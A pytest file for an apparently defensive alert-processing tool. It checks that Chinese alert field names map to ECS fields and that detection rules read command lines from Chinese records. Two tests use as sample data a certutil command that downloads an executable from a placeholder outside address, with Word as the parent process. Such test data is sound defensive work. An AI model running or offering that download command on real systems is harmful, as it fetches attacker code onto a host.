"""Names of fields: what Chinese records call a thing is known for that thing, wherever records are read."""

import pytest

from schemas import Alert, Field, Severity
from secassist.detectors._sigma.fields import of_alert
from secassist.investigating.places import by_field
from secassist.likeness.keys import correlation_key
from secassist.sources._records import record
from secassist.vocabulary import ecs


@pytest.mark.parametrize(
    ("name", "known"),
    [
        ("告警名称", "rule.name"),
        ("data.威胁等级", "event.severity"),
        ("源IP", "source.ip"),
        ("攻击者 IP地址", "source.ip"),
        ("受害者IP", "destination.ip"),
        ("目的端口", "destination.port"),
        ("登录地", "source.geo.name"),
        ("req_body", "http.request.body.content"),
        ("rspBody", "http.response.body.content"),
        ("父进程", "process.parent.executable"),
        ("命令行", "process.command_line"),
        ("处置状态", "event.outcome_text"),
    ],
)
def test_a_name_is_known_in_both_scripts(name: str, known: str):
    assert ecs(name) == known


@pytest.mark.parametrize("name", ["", "colour", "源", "目的", "源代码", "x" * 50, "受害者姓名"])
def test_other_names_say_nothing(name: str):
    assert ecs(name) == ""


def chinese(**more: str) -> Alert:
    return record(
        {
            "告警名称": "异常外联",
            "威胁等级": "高危",
            "告警描述": "主机定时访问陌生地址",
            "发生时间": "2026-03-04 05:06:07",
        }
        | more,
        "test",
        "a.jsonl:1",
    )


def test_a_chinese_record_has_a_title_a_severity_a_description_and_a_time():
    alert = chinese()
    assert (alert.title, alert.reported_severity, alert.description) == (
        "异常外联",
        Severity.HIGH,
        "主机定时访问陌生地址",
    )
    assert alert.observed_at.startswith("2026-03-0")


def test_an_english_name_wins_over_what_a_chinese_one_means():
    assert chinese(**{"rule.name": "Beacon"}).title == "Beacon"


def test_rules_match_what_chinese_fields_hold():
    event = of_alert(chinese(命令行="certutil -urlcache -f http://203.0.113.9/a.exe a.exe", 父进程="winword.exe"))
    assert event.first("CommandLine").startswith("certutil")
    assert event.first("ParentImage") == "winword.exe"


def test_alerts_of_one_chinese_host_belong_together():
    one, other = chinese(主机名="HR-07"), chinese(主机名="HR-07", 告警描述="另一件事")
    assert correlation_key(one) == correlation_key(other) != ""
    assert correlation_key(chinese(主机名="HR-08")) != correlation_key(one)


@pytest.mark.parametrize(
    ("name", "value", "kind"),
    [("受害者IP", "10.1.2.3", "target"), ("攻击IP", "203.0.113.4", "source"), ("登录账号", "li.na", "user")],
)
def test_an_investigation_knows_who_is_who(name: str, value: str, kind: str):
    assert by_field(name, value) == [(kind, value)]


def test_a_field_without_a_known_name_stays_unknown():
    assert by_field("天气", "晴") is None
    assert not of_alert(Alert(source="test", fields=(Field(path="天气", value="晴"),))).get("CommandLine")


def test_rules_read_the_pairs_of_a_line_inside_an_alert():
    event = of_alert(chinese(日志原文='proc_cmdline="certutil -urlcache -f http://203.0.113.9/a" user=li'))
    assert event.first("CommandLine").startswith("certutil")
